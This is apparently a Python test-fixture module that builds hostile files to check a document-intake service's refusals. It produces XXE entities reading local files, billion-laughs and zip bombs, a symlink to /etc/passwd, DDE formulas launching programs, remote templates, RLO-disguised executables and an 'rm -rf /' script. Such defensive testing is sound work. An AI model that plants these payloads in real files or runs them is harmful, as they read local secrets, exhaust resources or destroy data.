"""Hostile and clean papers, built in code: bombs, lies and traps, and the twins that must be read."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from types import MappingProxyType
from typing import TYPE_CHECKING

import pypdf

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CANARY = "file:///etc/hostname"


def zipped(parts: Mapping[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Give a zip of these parts in their order."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return target.getvalue()


def relations(*rows: tuple[str, str, str], mode: str = "") -> str:
    """Give a relationships part of (id, last word of the type, target)."""
    lines = "".join(
        f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>' for name, kind, target in rows
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{lines}</Relationships>'


def content_types(part: str, kind: str) -> str:
    """Give a content types part that names one part."""
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part}" ContentType="{kind}"/></Types>'
    )


def docx(
    body: str, *, head: str = "", extra: Mapping[str, bytes | str] | None = None, encoding: str = "utf-8"
) -> bytes:
    """Give a docx whose body holds this WordprocessingML; `head` stands before the root element."""
    document = f'{head}<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
    return zipped(
        {
            "[Content_Types].xml": content_types("/word/document.xml", DOCX_TYPE),
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": document.encode(encoding),
            **(extra or {}),
        }
    )


def paragraph(text: str) -> str:
    """Give one plain paragraph."""
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def xlsx(sheet: str, **parts: str) -> bytes:
    """Give an xlsx whose only sheet holds this SpreadsheetML, with other parts by their names."""
    return zipped(
        {
            "[Content_Types].xml": content_types("/xl/workbook.xml", XLSX_TYPE),
            "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="Danh sách" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": relations(("r1", "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{sheet}</worksheet>',
            **parts,
        }
    )


def cell(place: str, value: str) -> str:
    """Give one cell with text in place."""
    return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'


def pdf(*, password: str = "", title: str = "") -> bytes:
    """Give a PDF of one empty page, encrypted when a password is given."""
    writer, target = pypdf.PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=595, height=842)
    if title:
        writer.add_metadata({"/Title": title})
    if password:
        writer.encrypt(password, algorithm="AES-256")
    writer.write(target)
    return target.getvalue()


def flate(body: bytes, more: bytes = b"") -> bytes:
    """Give a PDF stream, packed."""
    packed = zlib.compress(body, 9)
    return b"<</Filter/FlateDecode%s/Length %d>>stream\n" % (more, len(packed)) + packed + b"\nendstream"


def pdf_of(content: bytes, *, page: bytes = b"", others: Mapping[int, bytes] = MappingProxyType({})) -> bytes:
    """Give a PDF of one page with this content stream, entries of the page, and objects from number 5 on."""
    font = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s>>" % (font, page),
        4: content,
        **others,
    }
    written, places = b"%PDF-1.7\n", []
    for number, body in objects.items():
        places.append(len(written))
        written += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows = b"".join(b"%010d 00000 n \n" % at for at in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + rows
    return (
        written + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(written))
    )


def sparse_xlsx() -> bytes:
    """Give a few KiB that claim a grid of seventeen billion cells."""
    far = f'<row r="1">{cell("A1", "a")}</row><row r="1048576">{cell("XFD1048576", "b")}</row>'
    return xlsx(f'<dimension ref="A1:A1"/><sheetData>{far}</sheetData>')


def merged_xlsx() -> bytes:
    """Give a sheet with one merge over everything."""
    rows = f'<sheetData><row r="1">{cell("A1", "a")}</row></sheetData>'
    return xlsx(f'{rows}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def paragraph_flood() -> bytes:
    """Give about 10 KiB that inflate to a million and more empty paragraphs."""
    return docx("<w:p/>" * 4_000_000)


def dense_flood() -> bytes:
    """Give a docx under every ratio that still holds more paragraphs than any paper."""
    return docx("".join(f"<w:p><w:r><w:t>{n:x}</w:t></w:r></w:p>" for n in range(260_000)))


def zip_bomb() -> bytes:
    """Give a docx one part of which inflates a thousandfold."""
    return docx(paragraph("a"), extra={"word/styles.xml": b" " * 40_000_000})


def external_entity(encoding: str = "utf-8") -> bytes:
    """Give a docx that would print a file of this machine."""
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}">]>'
    return docx(paragraph("&x;"), head=head, encoding=encoding)


def entity_in_rels() -> bytes:
    """Give a docx with a DOCTYPE in a relationships part."""
    trap = f'<!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd"><Relationships xmlns="{PACKAGE}/relationships"/>'
    return docx(paragraph("a"), extra={"word/_rels/document.xml.rels": trap})


def utf7_docx() -> bytes:
    """Give a docx whose XML hides behind UTF-7."""
    head = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-'
    return docx(paragraph("a"), head=head)


def laughing_docx() -> bytes:
    """Give the billion laughs as a docx."""
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return docx(paragraph("&l9;"), head=f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')


def macro_docx() -> bytes:
    """Give a docm renamed to docx."""
    return docx(paragraph("a"), extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def remote_template(place: str = "https://example.invalid/t.dotm") -> bytes:
    """Give a docx that fetches its template from another machine."""
    row = relations(("r1", "attachedTemplate", place), mode=' TargetMode="External"')
    settings = f'<w:settings xmlns:w="{W}"/>'
    return docx(paragraph("a"), extra={"word/_rels/settings.xml.rels": row, "word/settings.xml": settings})


def dde_field() -> bytes:
    """Give a docx with a DDE field split over runs."""
    code = ("<w:instrText> DDEA</w:instrText>", "<w:instrText>UTO c:\\x</w:instrText>")
    parts = ('<w:fldChar w:fldCharType="begin"/>', *code)
    return docx("<w:p>" + "".join(f"<w:r>{part}</w:r>" for part in parts) + "</w:p>")


def remote_chunk() -> bytes:
    """Give a docx whose text stands on another machine."""
    row = relations(("r1", "aFChunk", "https://example.invalid/a.html"), mode=' TargetMode="External"')
    return docx('<w:altChunk r:id="r1"/>', extra={"word/_rels/document.xml.rels": row})


def program_in_a_cell(formula: str) -> bytes:
    """Give a sheet whose formula starts a program."""
    return xlsx(f'<sheetData><row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row></sheetData>')


def endless_time() -> bytes:
    """Give a sheet with a length of time that no clock can tell."""
    styles = f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="200" formatCode="[h]:mm"/></numFmts>'
    parts = {
        "xl/_rels/workbook.xml.rels": relations(
            ("r1", "worksheet", "worksheets/sheet1.xml"), ("s", "styles", "styles.xml")
        ),
        "xl/styles.xml": f'{styles}<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>',
    }
    return xlsx('<sheetData><row r="1"><c r="A1" s="0"><v>1e308</v></c></row></sheetData>', **parts)


def hairs_without_end() -> bytes:
    """Give a PDF page painted with a pattern that repeats a hundred thousand times a point."""
    pattern = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001/YStep 0.00001/Resources<<>>"
    painted = pdf_of(flate(b"/Pattern cs /P scn 0 0 595 842 re f"), others={5: flate(b"0 0 1 1 re f", pattern)})
    return painted.replace(b"/Font<<", b"/Pattern<</P 5 0 R>>/Font<<", 1)


def deep_docx() -> bytes:
    """Give a docx of content controls nested beyond any paper."""
    deep = 150
    return docx("<w:sdt><w:sdtContent>" * deep + paragraph("a") + "</w:sdtContent></w:sdt>" * deep)


def twice_named() -> bytes:
    """Give a docx with two parts of one name."""
    # Same length, so that no offset changes.
    return docx(paragraph("one"), extra={"word/documenu.xml": "<w:document/>"}).replace(b"documenu", b"document")


def overlapping_zip() -> bytes:
    """Give a zip whose two entries share one run of packed bytes."""
    body = zipped({"a.txt": b"a" * 100_000})
    end = body.rindex(b"PK\x05\x06")
    first = body.index(b"PK\x01\x02")
    record = body[first:end]
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(record) * 2, first, 0)
    return body[:first] + record * 2 + tail


def crowded_zip() -> bytes:
    """Give a zip of more entries than any dossier has."""
    return zipped({f"{number}.txt": b"" for number in range(2_001)}, method=zipfile.ZIP_STORED)


def locked_zip() -> bytes:
    """Give a zip whose entry is marked as encrypted."""
    body = bytearray(zipped({"a.txt": b"abc"}))
    body[6] |= 1
    central = body.index(b"PK\x01\x02")
    body[central + 8] |= 1
    return bytes(body)


def linked_zip() -> bytes:
    """Give a zip with a symbolic link to a file of this machine."""
    target = io.BytesIO()
    entry = zipfile.ZipInfo("link.txt")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def hollow_zip() -> bytes:
    """Give a zip of a folder, another zip and no paper."""
    return zipped({"Hồ sơ/": b"", "trong.zip": zipped({})})


def nested_zip(depth: int) -> bytes:
    """Give a text inside `depth` zips."""
    body = zipped({"a.txt": "văn bản"})
    for _ in range(depth - 1):
        body = zipped({"inner.zip": body})
    return body


def both_pdf_and_zip() -> bytes:
    """Give a file that is a PDF from its head and a zip from its tail."""
    return pdf() + zipped({"a.txt": b"abc"})


PDF_LOOP = (
    b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]"
    b"/Count 9999999>>endobj\n"
    b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Prev 120>>\nstartxref\n120\n%%EOF"
)

# name -> (builder, name of the paper, codes it may be refused with)
PAPERS: Mapping[str, tuple[Callable[[], bytes], str, frozenset[str]]] = MappingProxyType(
    {
        "sparse xlsx": (sparse_xlsx, "ds.xlsx", frozenset({"xlsx.too_large"})),
        "merged xlsx": (merged_xlsx, "ds.xlsx", frozenset({"xlsx.too_large"})),
        "paragraph flood": (paragraph_flood, "a.docx", frozenset({"zip.bomb", "xml.too_large"})),
        "dense flood": (dense_flood, "a.docx", frozenset({"docx.too_large", "xml.too_large"})),
        "zip bomb": (zip_bomb, "a.docx", frozenset({"zip.bomb"})),
        "xxe": (external_entity, "a.docx", frozenset({"xml.doctype"})),
        "xxe utf-16": (lambda: external_entity("utf-16"), "a.docx", frozenset({"xml.doctype"})),
        "xxe utf-16-be": (lambda: external_entity("utf-16-be"), "a.docx", frozenset({"xml.doctype", "xml.encoding"})),
        "xxe utf-32": (lambda: external_entity("utf-32"), "a.docx", frozenset({"xml.doctype", "xml.encoding"})),
        "xxe ebcdic": (lambda: external_entity("cp037"), "a.docx", frozenset({"xml.doctype", "xml.encoding"})),
        "dtd in rels": (entity_in_rels, "a.docx", frozenset({"xml.doctype"})),
        "utf-7": (utf7_docx, "a.docx", frozenset({"xml.encoding"})),
        "billion laughs": (laughing_docx, "a.docx", frozenset({"xml.doctype"})),
        "macro": (macro_docx, "a.docx", frozenset({"office.macro"})),
        "remote template": (remote_template, "a.docx", frozenset({"office.remote_template"})),
        "dde": (dde_field, "a.docx", frozenset({"office.dde"})),
        "remote chunk": (remote_chunk, "a.docx", frozenset({"office.remote_template"})),
        "dde in a sheet": (
            lambda: program_in_a_cell("cmd|&apos;/c calc&apos;!A0"),
            "a.xlsx",
            frozenset({"office.dde"}),
        ),
        "time without end": (endless_time, "a.xlsx", frozenset({"xls.broken"})),
        "slides as a paper": (
            lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.presentation"}),
            "a.odp",
            frozenset({"type.unknown"}),
        ),
        "deep nesting": (deep_docx, "a.docx", frozenset({"docx.too_large", "docx.broken"})),
        "one name twice": (twice_named, "a.docx", frozenset({"zip.malformed"})),
        "overlapping zip": (overlapping_zip, "a.docx", frozenset({"zip.overlap"})),
        "crowded zip": (crowded_zip, "a.docx", frozenset({"zip.entries"})),
        "zip as a paper": (lambda: zipped({"a.txt": "a"}), "a.zip", frozenset({"paper.archive"})),
        "cut docx": (lambda: docx(paragraph("a"))[:-40], "a.docx", frozenset({"zip.malformed"})),
        "broken xml": (lambda: docx("<w:p>"), "a.docx", frozenset({"docx.broken"})),
        "program as pdf": (lambda: b"MZ" + b"\0" * 600, "a.pdf", frozenset({"type.forbidden"})),
        "elf as docx": (lambda: b"\x7fELF" + b"\0" * 600, "a.docx", frozenset({"type.forbidden"})),
        "script": (lambda: b"#!/bin/sh\nrm -rf /\n", "a.txt", frozenset({"type.forbidden"})),
        "hidden extension": (lambda: b"text", "a\u202efdp.exe", frozenset({"type.forbidden"})),
        "page as pdf": (lambda: b"<html><body>a</body></html>", "a.pdf", frozenset({"type.mismatch"})),
        "pdf and zip": (both_pdf_and_zip, "a.pdf", frozenset({"type.mismatch"})),
        "locked pdf": (lambda: pdf(password="x"), "a.pdf", frozenset({"pdf.encrypted"})),
        "looping pdf": (lambda: PDF_LOOP, "a.pdf", frozenset({"pdf.broken"})),
        "rubble pdf": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "a.pdf", frozenset({"pdf.broken"})),
        "empty": (lambda: b"", "a.pdf", frozenset({"paper.empty"})),
        "deep rtf": (lambda: b"{\\rtf1" + b"{" * 100_000, "a.rtf", frozenset({"rtf.broken"})),
        "rtf object": (lambda: b"{\\rtf1{\\object\\objdata 0105}}", "a.rtf", frozenset({"office.macro"})),
        "tag flood": (lambda: b"<html>" + b"<b>" * 500_000, "a.html", frozenset({"paper.too_large"})),
    }
)
